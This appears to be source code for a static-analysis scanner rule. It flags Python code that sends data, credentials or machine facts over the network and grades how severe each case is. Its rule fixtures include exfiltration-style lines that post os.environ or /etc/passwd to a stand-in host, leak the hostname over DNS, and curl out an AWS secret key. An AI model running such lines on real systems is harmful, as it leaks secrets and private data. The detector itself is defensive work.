"""What goes out over the network, and how grave that is: its content, its credentials, its address."""

from __future__ import annotations

import re
from typing import NamedTuple

from engine.analysis.python.declare import python_rule
from engine.analysis.python.evaluate.evaluator import Evaluator
from engine.analysis.python.evaluate.patterns import pattern_of
from engine.analysis.python.evaluate.sink_registry import PythonCall
from engine.analysis.python.evaluate.values import PRIVATE, PythonValue, Taint, taint_of, taint_words
from engine.analysis.python.word_lists import words
from engine.models import Level

UPLOAD = python_rule(
    "py-upload",
    "Data is sent out",
    "exfil_upload",
    Level.MEDIUM,
    attack="Carries data out of the machine.",
    why="MEDIUM: forms are posted too; HIGH where the data is private.",
    fix="Request the domain as a permission, and state what is sent.",
    match=(
        "import requests\nrequests.post('https://a.example', data=d)",
        "import socket\ns = socket.socket()\ns.sendall(x)",
    ),
    not_match=("import requests\nrequests.get('https://a.example')",),
    cwe=200,
    owasp="LLM02",
)
EXFILTRATION = python_rule(
    "py-exfiltration",
    "Private data leaves the machine",
    "exfil_upload",
    Level.CRITICAL,
    attack="Sends secrets, the environment, files or facts about the machine to an attacker.",
    why=(
        "CRITICAL: private data is sent over the network; HIGH for files, facts about the machine and a key "
        "that belongs to another service; MEDIUM for one variable; LOW for a key in the headers of a request."
    ),
    fix="Remove it.",
    match=(
        "import os, requests\nrequests.post(u, data=dict(os.environ))",
        "import requests\nrequests.post(u, data=open('/etc/passwd').read())",
        "import socket, requests\nrequests.get('http://a.example/?h=' + socket.gethostname())",
        "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.a.example')",
        "import os\nos.system('curl http://a.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])",
        "import os\nfrom urllib.request import Request, urlopen\nurlopen(Request(u, str(os.environ)))",
    ),
    not_match=(
        "import requests\nrequests.post(u, data={'a': 1})",
        "import socket\nsocket.gethostbyname(socket.gethostname())",
        "import os, requests\nrequests.get(os.environ['API_URL'] + '/items')",
    ),
    cwe=200,
    owasp="LLM02",
)

_UPLOADING = frozenset(
    words(
        "post put patch send sendall sendto sendmail send_message storbinary storlines upload publish "
        "upload_file upload_fileobj put_object send_photo send_document insert_one insert_many putfo"
    )
)
_CREDENTIALS = ("headers", "auth", "cookies", "cert", "params", "proxies")
_BODY = ("data", "json", "files", "body", "content")
_NAME = re.compile(r"['\"]([A-Za-z_]\w*)['\"]")
_OWNERS = {
    "AWS": "amazonaws", "GITHUB": "github", "GH": "github", "GITLAB": "gitlab", "OPENAI": "openai",
    "ANTHROPIC": "anthropic", "SLACK": "slack", "STRIPE": "stripe", "GOOGLE": "google", "GCP": "google",
    "AZURE": "azure", "NPM": "npmjs", "PYPI": "pypi", "TWINE": "pypi", "DOCKER": "docker",
    "HF": "huggingface", "DISCORD": "discord", "TWILIO": "twilio", "HEROKU": "heroku", "KUBE": "kube",
    "DB": "database", "DATABASE": "database", "POSTGRES": "database", "MYSQL": "database", "SSH": "ssh",
    "SUDO": "sudo",
}  # fmt: skip
"""Whose key a variable holds, by the first word of its name, and what its host is called."""


class Outgoing(NamedTuple):
    """Where the parts of a request come from."""

    body: int
    credentials: int
    address: int
    has_body: bool


def outgoing(call: PythonCall, verb: str) -> Outgoing:
    """Return the taints of the parts of a request."""
    request = _request(call)
    named = {**call.keywords, **(request or {})}
    first, rest = (call.args[:1], call.args[1:]) if request is None else ([named.get("url")], [])
    credentials = taint_of(*(named.get(key) for key in _CREDENTIALS))
    others = [value for key, value in named.items() if key not in (*_CREDENTIALS, "url", "host")]
    body = taint_of(*rest, *others, call.receiver if verb in _UPLOADING else None)
    has_body = verb in _UPLOADING or any(named.get(key) is not None or key in call.keywords for key in _BODY)
    if verb in ("send", "sendall", "sendto", "publish", "send_message"):
        body, first = body | taint_of(*first), []
    return Outgoing(body, credentials, taint_of(*first, named.get("url")), has_body or _posts(call, verb))


def _request(call: PythonCall) -> dict[str, PythonValue | None] | None:
    """Return the parts of a request object among the arguments."""
    for value in call.args[:2]:
        if value is not None and value.name and value.name.endswith("Request()") and value.items:
            return {key: part for key, part in value.items.items() if isinstance(key, str)}
    return None


def _posts(call: PythonCall, verb: str) -> bool:
    """Whether `request("POST", url, body)` or `urlopen(url, data)` has a body."""
    if verb == "urlopen":
        return call.has(1, "data")
    return verb == "request" and ((call.text(0, "method") or "").upper() in ("POST", "PUT", "PATCH"))


def report_destination(evaluator: Evaluator, call: PythonCall, verb: str) -> None:
    """Report what is sent: private data is worse than any."""
    parts = outgoing(call, verb)
    everything = parts.body | parts.credentials | parts.address
    level = max(filter(None, _levels(evaluator, call, parts)), key=lambda one: one.rank, default=None)
    if level is not None:
        what = taint_words(everything & PRIVATE) or "the content of a file"
        evaluator.report(EXFILTRATION, call.node, f"Sends {what}", severity=level, value=_tainted(call))
    elif parts.has_body:
        evaluator.report(UPLOAD, call.node, "Sends data out")


def _levels(evaluator: Evaluator, call: PythonCall, parts: Outgoing) -> list[Level | None]:
    content = parts.body if parts.has_body else 0
    return [
        _of_content(evaluator, call, content),
        _of_credentials(evaluator, call, parts.credentials | (0 if parts.has_body else parts.body)),
        _of_address(evaluator, call, parts.address),
    ]


def _of_content(evaluator: Evaluator, call: PythonCall, taint: int) -> Level | None:
    if taint & (Taint.SECRET | Taint.SENSITIVE | Taint.SCREEN):
        return Level.CRITICAL
    if taint & (Taint.SYSTEM | Taint.FILE):
        return Level.HIGH
    return Level.MEDIUM if taint & Taint.ENVIRONMENT else None


def _of_credentials(evaluator: Evaluator, call: PythonCall, taint: int) -> Level | None:
    if taint & (Taint.SENSITIVE | Taint.SCREEN):
        return Level.CRITICAL
    if taint & Taint.SECRET:
        return _of_secret(evaluator, call, Level.LOW)
    return Level.HIGH if taint & Taint.SYSTEM else None


def _of_address(evaluator: Evaluator, call: PythonCall, taint: int) -> Level | None:
    if taint & Taint.SENSITIVE:
        return Level.CRITICAL
    if taint & Taint.SECRET:
        return _of_secret(evaluator, call, Level.MEDIUM)
    if taint & (Taint.SYSTEM | Taint.SCREEN):
        return Level.HIGH
    named = pattern_of(call.args[0] if call.args else call.keywords.get("url"))
    return Level.MEDIUM if taint & Taint.ENVIRONMENT and re.match(r"\w+://[\w.-]+|\ufffc\.", named) else None


def _of_secret(evaluator: Evaluator, call: PythonCall, own: Level) -> Level:
    """Return how grave it is that a secret is sent: all of them, another's key, or the host's own."""
    texts = _secret_sources(evaluator, call)
    names = {name for text in texts for name in _NAME.findall(text)}
    if not names:
        return Level.CRITICAL if not texts or any("environ" in text for text in texts) else Level.MEDIUM
    host = " ".join(pattern_of(arg) for arg in (*call.args[:2], call.keywords.get("url"))).lower()
    owners = {_OWNERS[head] for name in names if (head := name.upper().partition("_")[0]) in _OWNERS}
    return own if all(owner in host for owner in owners) else Level.HIGH


def _secret_sources(evaluator: Evaluator, call: PythonCall) -> list[str]:
    """Return the code that the secrets of a request come from."""
    tainted = [value for value in _parts(call) if value.taint & Taint.SECRET and value.trail]
    return [evaluator.code(value.trail[0]) for value in tainted]


def _parts(call: PythonCall) -> list[PythonValue]:
    values = [call.receiver, *call.args, *call.keywords.values()]
    inner = [item for value in values if value is not None for item in (value.items or {}).values()]
    deeper = [item for value in inner if value is not None for item in (value.items or {}).values()]
    return [value for value in (*values, *inner, *deeper) if value is not None]


def _tainted(call: PythonCall) -> PythonValue | None:
    return next((value for value in _parts(call)[1:] if value.taint), None)
